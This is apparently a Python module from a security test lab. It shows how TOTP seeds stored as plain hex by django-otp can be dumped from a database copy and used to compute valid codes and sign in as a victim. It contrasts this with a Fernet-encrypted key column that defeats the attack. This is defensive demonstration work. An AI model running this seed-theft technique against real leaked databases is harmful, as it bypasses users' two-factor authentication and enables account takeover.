"""Seed theft: the TOTP secret copied out of the database mints valid codes.

django-otp stores TOTPDevice.key as plain hex (as does two-factor's PhoneDevice).
Anyone holding a copy of the database (a backup, a leaked dump, SQL injection) holds
every user's authenticator app. Storing the key encrypted under a key the database
does not hold (a KMS, an HSM, an environment secret) turns that dump into ciphertext.
"""

import sqlite3
import time

from .. import wizards
from ..otp import totp_code
from .results import AttackResult, lab_name, page_evidence, reached, stopwatch

DUMP_SQL = """SELECT u.username, d.key, d.digits, d.step, d.tolerance, d.last_t
              FROM otp_totp_totpdevice d JOIN auth_user u ON u.id = d.user_id ORDER BY u.username"""


def dump_totp_keys(lab):
    """What a copy of the lab's database file reveals: {username: TOTP device row}, read with sqlite3."""
    connection = sqlite3.connect(f"file:{lab.db_path}?mode=ro", uri=True)
    try:
        rows = connection.execute(DUMP_SQL).fetchall()
    finally:
        connection.close()
    return {name: {"key": key, "digits": digits, "step": step, "tolerance": tolerance, "last_t": last_t}
            for name, key, digits, step, tolerance, last_t in rows}


def mint_code(row, at=None):
    """The code the victim's app shows next, from a dumped row (hex key, last step used).

    The oldest step the server still accepts (django-otp: now ± tolerance, never a step
    <= last_t), as lab.current_code does; in the last 3 s of a step, the current one, so
    the code does not expire on its way to the server.
    """
    at = time.time() if at is None else at
    step_s, now_step = row["step"], int(at // row["step"])
    step = max(now_step - row["tolerance"], row["last_t"] + 1)
    if step < now_step and step_s - at % step_s < 3:
        step = max(now_step, row["last_t"] + 1)
    if step > now_step + row["tolerance"]:
        raise RuntimeError("The victim used every code in the window; the next one comes with the next step.")
    return totp_code(bytes.fromhex(row["key"]), step * step_s, step=step_s, digits=row["digits"])


# -- the same dump, from a store that encrypts the key ---------------------------------------

def new_vault_key():
    """A Fernet key: it lives outside the database (KMS, HSM, environment), never in it."""
    from cryptography.fernet import Fernet

    return Fernet.generate_key()


def encrypt_dump(dump, vault_key):
    """The dump as it would read if the key column held Fernet(vault_key).encrypt(key)."""
    from cryptography.fernet import Fernet

    box = Fernet(vault_key)
    return {name: {**row, "key": box.encrypt(row["key"].encode()).decode()} for name, row in dump.items()}


def decrypt_key(stored, vault_key):
    """What the server (which holds the vault key) does before computing a code."""
    from cryptography.fernet import Fernet

    return Fernet(vault_key).decrypt(stored.encode()).decode()


def attacker_key(stored):
    """The attacker's best use of a key column: hex as is; a Fernet token is opaque without the vault key."""
    from cryptography.fernet import Fernet, InvalidToken

    try:
        return bytes.fromhex(stored), "hex key, used as is"
    except ValueError:
        pass
    try:  # a guess at the vault key: any key other than the right one fails authentication
        Fernet(Fernet.generate_key()).decrypt(stored.encode())
    except InvalidToken:
        pass
    return stored.encode(), "Fernet token: decryption with a guessed key raised InvalidToken; used the raw bytes"


def steal_seed(lab, username="alice", *, vault_key=None):
    """Dump the database, mint the victim's next code from it, sign in with password + that code.

    vault_key: model a store that encrypts the key column with this Fernet key (which
    the attacker does not have): the dump then holds ciphertext.
    """
    with stopwatch() as watch:
        dump = dump_totp_keys(lab)
        if vault_key is not None:
            dump = encrypt_dump(dump, vault_key)
        row = dump[username]
        secret, read_as = attacker_key(row["key"])
        code = mint_code({**row, "key": secret.hex()})
        client = lab.client()
        wizards.password_step(client, username, lab.persona(username).password)
        page = wizards.token_step(client, code)
        ok = wizards.signed_in(page) and reached(client)[0]
        final = reached(client)[1] if ok else page
    shown = row["key"] if len(row["key"]) <= 48 else row["key"][:40] + "..."
    evidence = {"dumped key": shown, "read as": read_as, "code": code, **page_evidence(final)}
    setting = "key column encrypted with Fernet (model of an encrypted store)" if vault_key else ""
    if ok:
        reason = f"the key read from the database minted {username}'s current code, which signed {username} in"
    else:
        reason = "the dump held no usable key: the code minted from it was refused"
    return AttackResult("seed theft (database dump)", "TOTP", lab_name(lab), ok, attempts=1, elapsed=watch.elapsed,
                        evidence=evidence, reason=reason, setting=setting)
